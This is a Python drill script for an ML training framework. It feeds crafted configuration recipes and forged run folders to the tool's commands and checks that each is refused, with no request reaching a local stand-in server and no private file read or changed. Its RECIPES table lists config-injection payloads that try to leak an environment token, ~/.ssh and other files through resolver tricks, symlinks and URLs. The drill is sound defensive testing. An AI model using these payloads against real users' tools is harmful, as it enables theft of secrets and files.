r"""Recipes and run folders of somebody else that reach for secrets and files of this user.

    python -m experiments.drills.canaries

Each is given to a command as its user would. A server stands for the address of the author, and
files for those of the user: the server must get no request, and no file may be read or changed.
`tests/configuration/test_canaries.py` gives the same files to the same commands in one process.
"""

import os
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

from omegaconf import OmegaConf

from experiments.drills.outcome import tell
from rl4p.configuration.composition import Composer
from rl4p.configuration.schema import without_hydra

VARIABLE, SECRET = "RL4P_CANARY_TOKEN", "canary-5f1c"
SCORER = "_target_: rl4p.reward.endpoint.HttpScorer, weight: 1.0"
JUDGE = "_target_: rl4p.reward.endpoint.LLMJudge, weight: 1.0, model: m"
ENV = "oc.env:" + VARIABLE
SMALL = ("steps=1", "prompts_per_step=2", "group_size=2", "max_response_tokens=4")

# By name: what a recipe adds to the configuration. ADDRESS is the server of the author, SECRET the
# private file of the user, PRECIOUS a file that must not change, ELSEWHERE a folder not to make.
RECIPES = {
    "key": f"reward: {{terms: {{x: {{{SCORER}, url: ADDRESS, key_variable: {VARIABLE}}}}}}}",
    "address": f"reward: {{terms: {{x: {{{SCORER}, url: ADDRESS}}}}}}",
    "judge": f"reward: {{terms: {{x: {{{JUDGE}, url: ADDRESS/v1, key_variable: {VARIABLE}}}}}}}",
    "variable": f"reward: {{terms: {{x: {{{SCORER}, url: 'ADDRESS/${{{ENV}}}'}}}}}}",
    "default": f"data: {{system_prompt: '${{{ENV},none}}'}}",
    "nested name": f"tracker: {{experiment: '${{oc.${{evaluation.term}}:{VARIABLE}}}'}}\n"
    "evaluation: {term: env}",
    "decoded": f"data: {{system_prompt: '${{oc.decode:${{{ENV}}}}}'}}",
    "decoded text": f"data: {{system_prompt: \"${{oc.decode:'${{{ENV}}}'}}\"}}",
    "created": f"teacher: \"${{oc.create:'{{path: ${{{ENV}}}}}'}}\"",
    "copied": f"hydra: {{job: {{env_copy: [{VARIABLE}]}}}}\n"
    f"data: {{system_prompt: '${{hydra:job.env_set.{VARIABLE}}}'}}",
    "YAML elsewhere": "defaults: [../../yaml@data.where]\ndata: {system_prompt: '${data.where.x}'}",
    "link to YAML": "defaults: [link@data.where]\ndata: {system_prompt: '${data.where.x}'}",
    "interpolated": f"tracker: {{experiment: ADDRESS}}\n"
    f"reward: {{terms: {{x: {{{SCORER}, url: '${{tracker.experiment}}'}}}}}}",
    "servers": "defaults: [override /rollout: vllm]\n"
    f"rollout: {{servers: [ADDRESS], key_variable: {VARIABLE}}}",
    "rollout of evaluation": "evaluation: {rollout: {_target_: rl4p.rollout.openai.OpenAI, "
    f"servers: [ADDRESS], model: m, max_response_tokens: 4, key_variable: {VARIABLE}}}}}",
    "folder of weights": "defaults: [override /rollout: sglang]\n"
    "rollout: {servers: [ADDRESS], weights_folder: PRECIOUS}",
    "csv": "defaults: [override /data: csv]\ndata: {path: SECRET}",
    "held-out file": "defaults: [override /data: jsonl]\n"
    "data: {path: SECRET, held_out_path: SECRET}",
    "parent folder": "defaults: [override /data: jsonl]\ndata: {path: RELATIVE}",
    "link": "defaults: [override /data: jsonl]\ndata: {path: LINK}",
    "home": "defaults: [override /data: parquet]\ndata: {path: ~/.ssh}",
    "code": "defaults: [override /data: code]\ndata: {path: SECRET}",
    "mixture": "defaults: [override /data: mixture]\n"
    "data: {sets: {x: {_target_: rl4p.data.files.JSONLines, path: SECRET}}}",
    "task": "evaluation: {tasks: {x: {_target_: rl4p.data.files.CSV, path: SECRET}}}",
    "classifier": "reward: {terms: {x: {_target_: rl4p.reward.classifier.Classifier, weight: 1.0, "
    "path: SECRET}}}",
    "model": "defaults: [override /model: pretrained]\nmodel: {path: SECRET}",
    "teacher": "teacher: {_target_: rl4p.model.pretrained.Pretrained, path: SECRET}",
    "tracker": "tracker: {uri: ADDRESS}",
    "database": "tracker: {uri: 'sqlite:///PRECIOUS'}",
    "trackers": "defaults: [override /tracker: several]\n"
    "tracker: {trackers: {mlflow: {uri: ADDRESS}}}",
    "account": "defaults: [override /tracker: wandb]\ntracker: {entity: evil, mode: offline}",
    "processes": "mesh: {coordinator: 'HOST', processes: 2, process: 1}",
    "run folder": "hydra: {run: {dir: ELSEWHERE}}",
    "folder of a sweep": "hydra: {mode: MULTIRUN, sweep: {dir: ELSEWHERE}, "
    "sweeper: {params: {seed: '0,1'}}}",
    "folder of a job": "hydra: {mode: MULTIRUN, sweep: {subdir: ELSEWHERE}, "
    "sweeper: {params: {seed: '0,1'}}}",
    "sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {tracker.uri: 'ADDRESS,ADDRESS/b'}}}",
    "parent of a sweep": "tracker: {uri: ADDRESS}\nhydra: {mode: MULTIRUN, sweeper: "
    "{params: {seed: '0,1', tracker.uri: 'null'}}}",
    "allowed by itself": f"allow: [ADDRESS]\nreward: {{terms: {{x: {{{SCORER}, url: ADDRESS}}}}}}",
    "password": "tracker: {uri: 'http://user:word@HOST'}",
}
X = "reward.terms.x"
WITH_KEY = {
    f"{X}._target_": "rl4p.reward.endpoint.HttpScorer",
    f"{X}.weight": 1.0,
    f"{X}.url": "ADDRESS",
    f"{X}.key_variable": VARIABLE,
}
JSONL = {"data": None, "data._target_": "rl4p.data.files.JSONLines", "data.path": "SECRET"}
# By name: a command with THEIRS, the run folder, and the values in the recorded configuration.
RUNS: dict[str, tuple[list[str], Mapping[str, Any]]] = {
    "evaluate": (["evaluate", "run=THEIRS", "out=OUT"], WITH_KEY),
    "evaluate with a tracker": (["evaluate", "run=THEIRS", "out=OUT"], {"tracker.uri": "ADDRESS"}),
    "evaluate on a file": (["evaluate", "run=THEIRS", "out=OUT"], JSONL),
    "evaluate with a variable": (
        ["evaluate", "run=THEIRS", "out=OUT"],
        {"data.system_prompt": f"${{{ENV}}}"},
    ),
    "resume": (["train", "resume=THEIRS", "steps=2"], WITH_KEY),
    "resume with a tracker": (["train", "resume=THEIRS", "steps=2"], {"tracker.uri": "ADDRESS"}),
    "plan": (["plan", "run=THEIRS", "out=OUT"], {"model.path": "SECRET"}),
    "generate": (["generate", "run=THEIRS", "out=OUT"], WITH_KEY),
    "regrade": (["regrade", "run=THEIRS", "out=OUT"], WITH_KEY),
    "serve": (["serve", "run=THEIRS", "port=0"], {"model.path": "SECRET"}),
    "export": (["export", "run=THEIRS", "out=OUT"], {"model.path": "SECRET"}),
    "send": (["send", "run=THEIRS"], {"tracker.uri": "ADDRESS"}),
}


@dataclass(frozen=True)
class Canaries:
    """What hostile files reach for.

    Attributes:
      folder: a folder for them, which holds the private file and the precious one.
      address: the address of the author's server.
      requests: the requests that it got.
    """

    folder: Path
    address: str
    requests: list[tuple[str, Any]]

    def filled(self, text: str) -> str:
        """Returns a text with the places and addresses in it."""
        names = {
            "ADDRESS": self.address,
            "HOST": self.address.removeprefix("http://"),
            "SECRET": str(self.folder / "secret"),
            "PRECIOUS": str(self.folder / "precious"),
            "ELSEWHERE": str(self.folder / "elsewhere"),
            "RELATIVE": os.path.relpath(self.folder / "secret"),
            "LINK": str(self.folder / "theirs/link"),
            "THEIRS": str(self.folder / "run"),
            "OUT": str(self.folder / "out"),
        }
        for name, value in names.items():
            text = text.replace(name, value)
        return text

    def recipe(self, text: str) -> list[str]:
        """Writes a recipe and returns the command that runs it."""
        folder = self.folder / "theirs"
        (folder / "experiment").mkdir(parents=True, exist_ok=True)
        (folder / "link").symlink_to(self.folder / "secret")
        (folder / "experiment/link.yaml").symlink_to(self.folder / "yaml.yaml")
        (folder / "experiment/x.yaml").write_text("# @package _global_\n" + self.filled(text))
        run = [f"hydra.{name}.dir={self.folder / 'out'}" for name in ("run", "sweep")]
        run = [] if "dir:" in text else run
        return ["train", "--config-dir", str(folder), "experiment=x", *SMALL, *run]

    def run(self, words: list[str], values: Mapping[str, Any]) -> list[str]:
        """Writes a run folder that claims these values, and returns the command that reads it."""
        folder = self.folder / "run"
        (folder / ".hydra").mkdir(parents=True, exist_ok=True)
        (folder / "metrics.jsonl").write_text("")
        (folder / "samples.jsonl").write_text(SAMPLE)
        config = without_hydra(Composer().load([]))
        lines = []
        for key, value in values.items():
            value = self.filled(value) if isinstance(value, str) else value
            OmegaConf.update(config, key, value, force_add=True)
            if value is None:
                continue
            lines.append(f"++{key}={value}" if value != f"${{{ENV}}}" else f"++{key}='{value}'")
        forged = f"# signature: {'0' * 64}\n"
        text = OmegaConf.to_yaml(config) + forged
        (folder / ".hydra/config.yaml").write_text(text)
        (folder / "config.yaml").write_text(text)
        (folder / ".hydra/overrides.yaml").write_text(OmegaConf.to_yaml(lines) + forged)
        return [self.filled(word) for word in words]

    def harm(self) -> list[str]:
        """Returns what happened that must not happen."""
        harm = [f"a request of {path}" for path, _ in self.requests]
        if (self.folder / "precious").read_text() != PRECIOUS:
            harm.append("a file was changed")
        if (self.folder / "elsewhere").exists():
            harm.append("a folder was made")
        written = (p for p in self.folder.rglob("*") if p.is_file() and p.name not in OWN)
        harm += [f"{p.name} has the secret" for p in written if SECRET in p.read_text("latin1")]
        return harm


SAMPLE = '{"step": 1, "prompt": "1+1", "answer": "2", "response": "2", "task": "t"}\n'
PRECIOUS = "precious\n"
OWN = ("secret", "link", "yaml.yaml", "link.yaml")  # which hold the secret


@contextmanager
def canaries(folder: Path) -> Iterator[Canaries]:
    """Yields canaries in an empty folder, with the server running and the variable set."""
    requests: list[tuple[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append((self.path, self.headers.get("authorization")))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *arguments: Any) -> None:
            pass

    (folder / "secret").write_text(f"{SECRET}\n")
    (folder / "yaml.yaml").write_text(f"x: {SECRET}\n")
    (folder / "precious").write_text(PRECIOUS)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Canaries(folder, f"http://127.0.0.1:{server.server_port}", requests)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def main() -> int:
    harms, refused = {}, 0
    environment = os.environ | {VARIABLE: SECRET, "JAX_PLATFORMS": "cpu"}
    for name in (*RECIPES, *RUNS):
        with TemporaryDirectory() as temporary, canaries(Path(temporary)) as own:
            words = own.recipe(RECIPES[name]) if name in RECIPES else own.run(*RUNS[name])
            command = [sys.executable, "-m", f"rl4p.{words[0]}", *words[1:]]
            done = subprocess.run(command, env=environment, capture_output=True, text=True)
            refused += done.returncode == 2 and done.stderr.count("\n") == 1
            if harm := [*own.harm(), *["the secret is printed"] * (SECRET in done.stderr)]:
                harms[name] = harm
    got = {"files": len(RECIPES) + len(RUNS), "refused in a sentence": refused, "harm": harms}
    held = not harms and refused == got["files"]
    asked = "each is refused in one sentence; nothing leaves, and no file is read or changed"
    return tell("canaries", asked, got, held=held)


if __name__ == "__main__":
    sys.exit(main())
